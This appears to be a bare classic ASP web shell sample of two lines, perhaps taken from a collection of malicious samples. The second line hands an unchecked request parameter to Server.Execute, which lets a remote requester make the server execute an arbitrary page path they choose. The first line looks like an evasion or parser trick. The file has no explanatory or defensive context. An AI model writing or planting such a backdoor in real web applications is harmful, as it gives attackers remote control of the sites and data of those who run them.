<% Response.End : Dim 1 %>
<% Server.Execute(request("p")) %>
